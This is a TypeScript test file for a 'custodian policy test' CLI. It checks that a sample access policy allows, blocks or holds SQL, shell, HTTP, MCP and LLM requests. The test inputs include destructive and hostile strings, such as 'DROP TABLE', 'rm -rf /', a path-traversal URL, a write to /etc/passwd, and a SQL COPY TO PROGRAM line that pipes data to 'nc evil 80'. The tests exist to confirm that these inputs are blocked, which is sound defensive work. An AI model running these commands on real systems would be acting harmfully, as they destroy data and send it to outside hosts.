// `custodian policy test`: in process through runCli, and as the built command in a child process.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT, POLICY_EXIT, runCli, type CliIo } from './index.js';

const repoRoot = join(dirname(fileURLToPath(import.meta.url)), '../../..');
const samplePolicy = join(repoRoot, 'libs/decisions/policy/test-fixtures/sample-policy.yaml');
const dir = mkdtempSync(join(tmpdir(), 'custodian-policy-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function io() {
  const out: string[] = [];
  const err: string[] = [];
  const value: CliIo = { stdout: (t) => void out.push(t), stderr: (t) => void err.push(t), env: {}, cwd: dir, waitForStop: () => new Promise(() => undefined) };
  return { io: value, stdout: () => out.join(''), stderr: () => err.join('') };
}

const analyst = ['--identity', 'agent-7', '--groups', 'analysts,readers', '--connection', 'orders-prod'];

describe('custodian policy test (in process)', () => {
  it('allowed read: exit 0, prints decision, rule and reason', async () => {
    const run = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT * FROM orders'], run.io)).toBe(POLICY_EXIT.allowed);
    expect(run.stdout()).toContain('decision: allow\nrule: analysts-read-public\nreason: allowed by rule analysts-read-public\n');
    expect(run.stdout()).toMatch(/policy: orders-analysts v1 sha256:[0-9a-f]{64}/);
  });

  it('stacked statements: exit 3 and one line per statement', async () => {
    const run = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1; DROP TABLE orders'], run.io)).toBe(POLICY_EXIT.notAllowed);
    const out = run.stdout();
    expect(out).toContain('decision: block\nrule: block-schema-and-privilege-changes\nreason: statement 2 (DROP TABLE): blocked by rule');
    expect(out).toMatch(/statements:\n {2}1\. +SELECT +allow +analysts-read-public +allowed by rule analysts-read-public\n {2}2\. +DROP TABLE +block +block-schema-and-privilege-changes/);
  });

  it('held write: exit 3 with the approval requirement; default deny names no rule', async () => {
    const held = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...analyst, '--sql', 'DELETE FROM orders WHERE id = 1'], held.io)).toBe(POLICY_EXIT.notAllowed);
    expect(held.stdout()).toContain('decision: require-approval\nrule: analysts-writes-need-dba\n');
    expect(held.stdout()).toContain('approval: 1 of group(s) dba; timeout 900s; grant once');
    const denied = io();
    expect(await runCli(['policy', 'test', samplePolicy, '--identity', 'x', '--connection', 'orders-prod', '--sql', 'SELECT 1'], denied.io)).toBe(3);
    expect(denied.stdout()).toContain('decision: block\nrule: (none)\nreason: no rule matched (default deny)\n');
  });

  it('shell commands, protocol defaulting to ssh, and JSON output', async () => {
    const run = io();
    const args = ['policy', 'test', samplePolicy, '--identity', 'olga', '--groups', 'ops', '--kind', 'human', '--connection', 'orders-db1-ssh'];
    expect(await runCli([...args, '--shell', 'ps aux | grep postgres', '--json'], run.io)).toBe(0);
    const json = JSON.parse(run.stdout()) as { decision: string; ruleId: string; units: { command: string }[]; classification: { language: string; ok: boolean } };
    expect(json).toMatchObject({ decision: 'allow', ruleId: 'ops-shell-readonly', classification: { language: 'shell', ok: true } });
    expect(json.units.map((unit) => unit.command)).toEqual(['ps', 'grep']);
    const blocked = io();
    expect(await runCli([...args, '--shell', 'ls; rm -rf /'], blocked.io)).toBe(3);
    expect(blocked.stdout()).toContain('reason: program 2 (rm): no rule matched (default deny)');
    expect(blocked.stdout()).toMatch(/programs:\n {2}1\. +ls +allow[^\n]*\n {2}2\. +rm +block +\(none\) +no rule matched/);
  });

  const api = ['--identity', 'agent-7', '--groups', 'analysts', '--connection', 'orders-api'];

  it('HTTP requests: method and URL, headers, a JSON body; a body it cannot read is blocked', async () => {
    const read = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...api, '--http', 'GET https://orders.example/v1/orders/42?expand=items'], read.io)).toBe(0);
    expect(read.stdout()).toContain('decision: allow\nrule: analysts-orders-api-read\n');
    const refund = ['--http', 'POST https://orders.example/v1/orders/42/refunds', '--header', 'Content-Type: application/json'];
    const held = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...api, ...refund, '--body', '{"amount": 10, "currency": "EUR"}'], held.io)).toBe(3);
    expect(held.stdout()).toContain('decision: require-approval\nrule: analysts-refunds-need-finance\n');
    expect(held.stdout()).toContain('approval: 1 of group(s) finance');
    const otherCurrency = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...api, ...refund, '--body', '{"amount": 10, "currency": "GBP"}', '--json'], otherCurrency.io)).toBe(3);
    expect(JSON.parse(otherCurrency.stdout())).toMatchObject({ decision: 'block', ruleId: null, language: 'http', classification: { language: 'http', ok: true, method: 'POST', bodyState: 'parsed' } });
    // Dot segments are resolved before matching: this is /v1/admin, not an order.
    const climb = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...api, '--http', 'GET https://orders.example/v1/orders/../admin'], climb.io)).toBe(3);
    writeFileSync(join(dir, 'body.txt'), 'amount=10');
    const notJson = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...api, ...refund, '--body', '@body.txt', '--json'], notJson.io)).toBe(3);
    expect(JSON.parse(notJson.stdout())).toMatchObject({ decision: 'block', classification: { bodyState: 'unparseable', flags: ['body-unparseable'] } });
  });

  it('MCP calls: read-only tools allowed, report writes held, other writes denied', async () => {
    const mcp = ['--identity', 'agent-7', '--groups', 'analysts', '--connection', 'files'];
    const read = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...mcp, '--mcp', '{"server":"files","tool":"read_file","arguments":{"path":"/etc/motd"},"annotations":{"readOnlyHint":true}}'], read.io)).toBe(0);
    expect(read.stdout()).toContain('rule: analysts-files-read-only-tools\n');
    writeFileSync(join(dir, 'call.json'), JSON.stringify({ server: 'files', tool: 'write_file', arguments: { path: '/srv/reports/q3.csv', content: 'x' } }));
    const held = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...mcp, '--mcp', '@call.json'], held.io)).toBe(3);
    expect(held.stdout()).toContain('decision: require-approval\nrule: analysts-report-writes-need-dba\n');
    const elsewhere = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...mcp, '--mcp', '{"server":"files","tool":"write_file","arguments":{"path":"/etc/passwd"}}', '--json'], elsewhere.io)).toBe(3);
    expect(JSON.parse(elsewhere.stdout())).toMatchObject({ decision: 'block', ruleId: null, language: 'mcp', classification: { tool: 'write_file', flags: ['no-annotations'] } });
  });

  it('LLM requests: model, token cap and tools; card numbers in the prompt are blocked', async () => {
    const llm = ['--identity', 'agent-7', '--groups', 'analysts', '--connection', 'claude'];
    const request = (text: string, maxTokens = 1024): string =>
      JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: maxTokens, tools: [{ name: 'Read', input_schema: {} }], messages: [{ role: 'user', content: text }] });
    const allowed = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...llm, '--llm', request('Summarise the orders table.')], allowed.io)).toBe(0);
    expect(allowed.stdout()).toContain('rule: analysts-claude\n');
    const card = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...llm, '--llm', request('Refund card 4111 1111 1111 1111 please'), '--json'], card.io)).toBe(3);
    expect(JSON.parse(card.stdout())).toMatchObject({ decision: 'block', ruleId: 'llm-no-payment-data', classification: { language: 'llm', detections: [{ detector: 'card', count: 1 }] } });
    expect(card.stdout()).not.toContain('4111');
    const tooMany = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...llm, '--llm', request('hi', 100_000)], tooMany.io)).toBe(3);
    const broken = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...llm, '--llm', '{"model":"claude-x"}'], broken.io)).toBe(3);
    expect(broken.stdout()).toContain('reason: LLM_INVALID_REQUEST');
  });

  it('unparseable input is blocked with the error code', async () => {
    const run = io();
    expect(await runCli(['policy', 'test', samplePolicy, ...analyst, '--sql', 'SEL/**/ECT 1'], run.io)).toBe(3);
    expect(run.stdout()).toContain('reason: SQL_PARSE_ERROR');
  });

  it('an invalid policy file: exit 2 with file:line:column: key', async () => {
    const file = join(dir, 'bad-policy.yaml');
    writeFileSync(file, 'name: bad\nrules:\n  - id: r1\n    match: { sql: { kinds: [read] } }\n    decision: allow\n    approval: { approverGroups: [dba], required: 1, timeoutSeconds: 60, grant: once }\n');
    const run = io();
    // Relative to the working directory.
    expect(await runCli(['policy', 'test', 'bad-policy.yaml', ...analyst, '--sql', 'SELECT 1'], run.io)).toBe(POLICY_EXIT.usage);
    expect(run.stderr()).toContain(`${file}:6:5: rules[0].approval: \`approval\` belongs to rules whose decision is require-approval.`);
    expect(run.stdout()).toBe('');
    const missing = io();
    expect(await runCli(['policy', 'test', 'nope.yaml', ...analyst, '--sql', 'SELECT 1'], missing.io)).toBe(2);
    expect(missing.stderr()).toContain('cannot be read (ENOENT)');
  });

  it('usage errors: exit 2 with the policy usage', async () => {
    const cases: readonly (readonly string[])[] = [
      ['policy'],
      ['policy', 'check', samplePolicy],
      ['policy', 'test'],
      ['policy', 'test', samplePolicy, '--connection', 'c', '--sql', 'SELECT 1'],
      ['policy', 'test', samplePolicy, '--identity', 'a', '--sql', 'SELECT 1'],
      ['policy', 'test', samplePolicy, ...analyst],
      ['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1', '--shell', 'ls'],
      ['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1', '--kind', 'robot'],
      ['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1', '--protocol', 'ftp'],
      ['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1', '--colour'],
      ['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1', '--mcp', '{}'],
      ['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT 1', '--body', '{}'],
      ['policy', 'test', samplePolicy, ...analyst, '--http', 'GET /v1/orders'],
      ['policy', 'test', samplePolicy, ...analyst, '--http', 'GET ftp://x/y'],
      ['policy', 'test', samplePolicy, ...analyst, '--http', 'GET https://x/y', '--header', 'no-colon'],
      ['policy', 'test', samplePolicy, ...analyst, '--mcp', '{not json'],
      ['policy', 'test', samplePolicy, ...analyst, '--mcp', '[1]'],
      ['policy', 'test', samplePolicy, ...analyst, '--llm', '@missing.json'],
    ];
    for (const argv of cases) {
      const run = io();
      expect({ argv, code: await runCli(argv, run.io) }).toEqual({ argv, code: EXIT.usage });
      expect(run.stderr()).toContain('Usage: custodian policy test');
    }
    const help = io();
    expect(await runCli(['policy', '--help'], help.io)).toBe(0);
    expect(help.stdout()).toContain('Exit codes: 0 allowed, 3 blocked or held for approval, 2 bad usage');
  });

  it('custodian --help lists policy test', async () => {
    const run = io();
    expect(await runCli(['--help'], run.io)).toBe(EXIT.ok);
    expect(run.stdout()).toContain('policy test FILE --identity SUB --connection NAME (--sql | --shell | --http | --mcp | --llm)');
  });
});

describe('custodian policy test (built command, child process)', () => {
  const main = join(repoRoot, 'services/cli/dist/main.js');

  beforeAll(() => {
    // Builds the CLI and what it references (incremental; near no-op when built).
    const tsc = join(repoRoot, 'node_modules/typescript/bin/tsc');
    const build = spawnSync(process.execPath, [tsc, '-b', 'services/cli/tsconfig.lib.json'], { cwd: repoRoot, encoding: 'utf8' });
    if (build.status !== 0) throw new Error(`build failed:\n${build.stdout}${build.stderr}`);
    if (!existsSync(main)) throw new Error(`${main} is missing after the build`);
  });

  function custodian(args: readonly string[]) {
    return spawnSync(process.execPath, [main, ...args], { cwd: dir, encoding: 'utf8' });
  }

  it('exit codes 0, 3 and 2 and the printed decision', () => {
    const allowed = custodian(['policy', 'test', samplePolicy, ...analyst, '--sql', 'SELECT count(*) FROM public.orders']);
    expect(allowed.status).toBe(0);
    expect(allowed.stdout).toContain('decision: allow\nrule: analysts-read-public\n');
    const blocked = custodian(['policy', 'test', samplePolicy, ...analyst, '--sql', "COMMIT; COPY orders TO PROGRAM 'nc evil 80'"]);
    expect(blocked.status).toBe(3);
    expect(blocked.stdout).toContain('decision: block\n');
    expect(blocked.stdout).toMatch(/\n {2}2\. +COPY TO +block +block-code-execution/);
    const usage = custodian(['policy', 'test', samplePolicy]);
    expect(usage.status).toBe(2);
    expect(usage.stderr).toContain('--identity is required');
    const help = custodian(['--help']);
    expect(help.status).toBe(0);
    expect(help.stdout).toContain('policy test FILE');
  });
});
